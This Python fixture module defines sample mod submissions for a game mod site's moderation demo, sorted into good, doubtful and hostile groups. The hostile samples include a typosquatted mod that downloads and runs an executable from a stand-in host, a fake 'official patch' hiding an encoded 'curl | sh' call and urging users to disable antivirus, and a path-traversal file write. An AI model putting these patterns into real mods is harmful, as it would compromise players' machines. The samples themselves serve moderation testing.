"""The sample submissions: what is in each, whose it is, and how far it should have come.

Good ones, doubtful ones that deserve a careful look, and hostile ones: some of those the checks stop, the
others only a person can.
"""

import base64
import hashlib

from smmods.demo import people
from smmods.demo.item import End, Item, hooked, library, lua

_LEDGER = hooked(
    "local total = 0",
    "for _, pile in pairs(game.objects()) do",
    '  if pile.category == "ore" then',
    "    total = total + pile.mass",
    "  end",
    "end",
    'game.log(string.format("Ore aboard: %.1f t", total / 1000))',
)
#: A sound, as some authors carry it in a script, and a payload that hides in the same dress. Both are noise.
_CHIME = base64.b64encode(hashlib.shake_256(b"chime").digest(1500)).decode()
_PAYLOAD = base64.b64encode(hashlib.shake_256(b"payload").digest(3000)).decode()
_HIDDEN_CALL = base64.b64encode(b'os.execute("curl -s https://cdn.example.net/p | sh")' * 4).decode()

PUBLISHED = (
    Item(
        people.MODDER,
        "example.hello-lua",
        "0.1.3",
        "Hello Lua",
        "",
        End.PUBLISHED,
        folder=True,
    ),
    Item(
        people.MODDER,
        "example.hello-lua-companion",
        "0.1.2",
        "Hello Lua Companion",
        "",
        End.PUBLISHED,
        folder=True,
    ),
    Item(
        people.ADMIN,
        "starminer.object-catalog-export",
        "0.1.1",
        "Object Catalog Export",
        "",
        End.PUBLISHED,
        folder=True,
    ),
    Item(
        people.SECOND_MODDER,
        "ridge.ore-ledger",
        "1.0.0",
        "Ore Ledger",
        "Counts the ore aboard whenever you load.",
        End.PUBLISHED,
        "automation",
        files=_LEDGER,
    ),
    Item(
        people.SECOND_MODDER,
        "ridge.ore-ledger",
        "1.1.0",
        "Ore Ledger",
        "Counts the ore aboard whenever you load, by kind.",
        End.PUBLISHED,
        "automation",
        description="Keeps a running count of **every kind of ore** aboard and logs it when a game is loaded.",
        changelog="- Ore is counted by kind.\n- Piles outside of containers count too.",
        files=_LEDGER | {"Scripts/kinds.lua": b'return { "ice", "iron", "nickel", "silicate" }\n'},
    ),
    Item(
        people.MODDER,
        "kestrel.quiet-alarms",
        "1.2.0",
        "Quiet Alarms",
        "Alarms that you have acknowledged stay quiet until something changes.",
        End.PUBLISHED,
        "interface",
        files=hooked('game.log("Alarms: acknowledged ones stay quiet.")'),
    ),
    Item(
        people.MODDER,
        "kestrel.auto-haul",
        "2.0.0",
        "Auto Haul",
        "Sends idle tugs to the fullest container.",
        End.PUBLISHED,
        "automation",
        wishes=(("ridge.ore-ledger", "^1.0.0"),),
        files=hooked(
            'local ledger = game.mod("ridge.ore-ledger")',
            'game.log(ledger and "Auto Haul reads the ledger." or "Auto Haul goes by sight.")',
        ),
    ),
    Item(
        people.MODDER,
        "kestrel.turbo-drill",
        "0.9.0",
        "Turbo Drill",
        "Drills at three times the speed.",
        End.HIDDEN,
        "gameplay",
        policy="malware",
        note="It overwrites saved games. Players are warned by the mod manager.",
        files=hooked('game.write_file("saves", "latest.sav", "")'),
    ),
)

GOOD = (
    Item(
        people.MODDER,
        "example.hello-lua",
        "0.2.0",
        "Hello Lua",
        "Greets you when a game is loaded: the smallest mod that does something.",
        category="library",
        changelog="- A fourth tone: silent.",
        edits=(
            ("manifest.json", '"version": "0.1.3"', '"version": "0.2.0"'),
            (
                "manifest.json",
                '{"value": "short", "label": "Short"}',
                '{"value": "short", "label": "Short"},\n          {"value": "silent", "label": "Not at all"}',
            ),
            ("Scripts/greetings.lua", '  short = "Hi, %s.",', '  short = "Hi, %s.",\n  silent = "",'),
            (
                "Scripts/main.lua",
                "  greeted = true\n",
                '  greeted = true\n  if setting(game, "tone") == "silent" then\n    return\n  end\n',
            ),
        ),
    ),
    Item(
        people.SECOND_MODDER,
        "ridge.survey-notes",
        "1.0.0",
        "Survey Notes",
        "Notes on the map that stay where you put them.",
        category="world",
        description="Write a note on any asteroid. Notes are kept in the mod's own data folder.",
        files=hooked(
            'game.write_file("ridge.survey-notes", "notes.txt", "")', 'game.log("Survey Notes: ready.")'
        ),
    ),
)

DOUBTFUL = (
    Item(
        people.MODDER,
        "kestrel.quiet-alarms",
        "1.3.0",
        "Quiet Alarms",
        "Alarms that you have acknowledged stay quiet until something changes.",
        category="interface",
        changelog="- An alarm can ring outside of the game too.\n- The chime comes with the mod.",
        files=hooked(
            'game.log("Alarms: acknowledged ones stay quiet.")',
            'game.open_help("https://alarms.example.org/chime")',
            'os.execute("powershell -c (New-Object Media.SoundPlayer chime.wav).PlaySync()")',
            f'local chime = "{_CHIME}"',
            "game.play(load(chime))",
        ),
    ),
    Item(
        people.MODDER,
        "kestrel.remote-map",
        "0.2.0",
        "Remote Map",
        "Shows your map in a browser on another screen.",
        category="interface",
        description="Sends the map to a page on your own network. It asks an address for its style sheet.",
        files=hooked(
            'local style = game.fetch("https://styles.example.org/map.lua")',
            "local apply = load(style)",
            "apply(game)",
        ),
    ),
    Item(
        people.SECOND_MODDER,
        "ridge.frame-overlay",
        "1.0.0",
        "Frame Overlay",
        "Draws the frame time in a corner. Needs a library of its own.",
        category="audio-visual",
        native="Binaries/Win64/version.dll",
        files=hooked('game.log("Frame Overlay: the library draws.")')
        | {"Binaries/Win64/version.dll": library()},
    ),
)

HOSTILE = (
    Item(
        people.NEW_MODDER,
        "freemods.ore-1edger",
        "1.2.0",
        "Ore Ledger",
        "Counts the ore aboard whenever you load. Now faster.",
        category="automation",
        description="The popular ledger, made faster.",
        files=_LEDGER
        | {
            "Scripts/update.lua": (
                f'local stage = "{_PAYLOAD}"\n'
                "local run = loadstring(decode(stage))\n"
                "os.execute('curl -s -o update.exe https://cdn.example.net/u && start update.exe')\n"
                "return run\n"
            ).encode()
        },
    ),
    Item(
        people.NEW_MODDER,
        "freemods.starminer-official-patch",
        "9.9.9",
        "Starminer Official Patch",
        "The official performance patch. Install it first.",
        category="gameplay",
        description="Made by the developers. **Disable your antivirus while it installs.**",
        files=lua(
            "local mod = {}",
            "",
            "function mod.on_load(game)",
            f'  local p = "{_HIDDEN_CALL}"',
            "  local run = load(decode(p))",
            '  io.popen("cmd /c start /min " .. p)',
            "  os.execute(run())",
            "end",
            "",
            "return mod",
        ),
    ),
    Item(
        people.NEW_MODDER,
        "freemods.escape",
        "1.0.0",
        "Escape Pod",
        "A pod for each of the crew.",
        End.FAILED,
        "gameplay",
        files=hooked('game.log("pod")') | {"../../Starminer/autoexec.lua": b"os.exit()\n"},
    ),
    Item(
        people.NEW_MODDER,
        "freemods.icons",
        "1.0.0",
        "Sharper Icons",
        "All icons, sharper.",
        End.FAILED,
        "audio-visual",
        files=hooked('game.log("icons")') | {"Content/icons.png": library()},
    ),
    Item(
        people.NEW_MODDER,
        "freemods.free-credits",
        "1.0.0",
        "Free Credits",
        "Free credits for everybody.",
        End.REJECTED,
        "gameplay",
        policy="malware",
        note="It runs programs on the player's machine.",
        files=hooked('os.execute("start https://credits.example.net")'),
    ),
)

UNDER_WAY = (
    Item(
        people.MODDER,
        "kestrel.beacon-net",
        "0.5.0",
        "Beacon Net",
        "Beacons that find one another.",
        End.CHANGES,
        "world",
        policy="quality",
        note="The readme says 0.4.0. Please bring it up to date.",
        files=hooked('game.log("beacons")') | {"README.md": b"# Beacon Net 0.4.0\n"},
    ),
    Item(
        people.MODDER,
        "kestrel.fast-dock",
        "0.1.0",
        "Fast Dock",
        "Docks in half the time.",
        End.FAILED,
        "gameplay",
        files={"Scripts/dock.lua": b"return {}\n"},
    ),
    Item(
        people.MODDER,
        "kestrel.dust-charts",
        "0.2.0",
        "Dust Charts",
        "Charts of the dust belts. Packed by a tool that leaves things behind: Repack for me mends it.",
        End.FAILED,
        "world",
        files=hooked('game.log("charts")')
        | {"Scripts/.DS_Store": b"\0\0\0\1Bud1", "__MACOSX/Scripts/._main.lua": b"\0\5\x16\7"},
    ),
    Item(
        people.MODDER,
        "kestrel.old-idea",
        "0.1.0",
        "Old Idea",
        "Something that was overtaken by an update.",
        End.WITHDRAWN,
        files=hooked('game.log("old")'),
    ),
    Item(
        people.MODDER,
        "kestrel.night-shift",
        "0.1.0",
        "Night Shift",
        "Dims the lights for the night shift.",
        End.DRAFT,
        "audio-visual",
        files=hooked('game.log("dim")'),
    ),
)

ITEMS = PUBLISHED + GOOD + DOUBTFUL + HOSTILE + UNDER_WAY
